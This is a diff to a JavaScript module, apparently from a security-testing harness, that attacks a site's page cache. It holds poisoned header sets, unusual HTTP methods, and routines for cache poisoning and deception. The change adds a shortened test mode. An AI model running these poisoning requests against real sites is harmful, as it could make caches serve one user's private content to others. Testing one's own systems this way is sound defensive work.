@@ -23,23 +23,25 @@ const POISONED = [
   { "Accept-Encoding": "identity;q=0, *;q=0", TE: "trailers", Range: "bytes=0-10" },
   { "Sec-Fetch-Dest": "image", "Sec-CH-UA": `"${POISON}"`, "Sec-CH-Viewport-Width": "1" },
 ];
+const SHORT_PAGES = 3;
 const METHODS = ["HEAD", "OPTIONS", "PROPFIND", "PATCH", "DELETE", "PUT", "POST"];
 
 /**
  * Tries to make the page cache give one visitor what belongs to another, or to nobody.
- * @param {AttackedSite} site @param {Attempts} attempts
+ * @param {AttackedSite} site @param {Attempts} attempts @param {import("./attacked-site.mjs").AttackOptions} options
  */
-export async function attackCache(site, attempts) {
-  await poisonHeaders(site, attempts);
+export async function attackCache(site, attempts, { isShort }) {
+  await poisonHeaders(site, attempts, isShort);
   await poisonParameters(site, attempts);
   await deceiveCache(site, attempts);
   await shareForms(site, attempts);
   await mixMethods(site, attempts);
 }
 
-/** @param {AttackedSite} site @param {Attempts} attempts */
-async function poisonHeaders(site, attempts) {
-  const pairs = PAGES.flatMap((path) => POISONED.map((headers, at) => ({ path: `${path}?cached=${at}`, headers })));
+/** @param {AttackedSite} site @param {Attempts} attempts @param {boolean} isShort */
+async function poisonHeaders(site, attempts, isShort) {
+  const pages = isShort ? PAGES.slice(0, SHORT_PAGES) : PAGES;
+  const pairs = pages.flatMap((path) => POISONED.map((headers, at) => ({ path: `${path}?cached=${at}`, headers })));
   await forEachParallel(pairs, async ({ path, headers }) => {
     const poisoned = await sendRaw(site, path, { headers });
     const clean = await sendRaw(site, path, {});
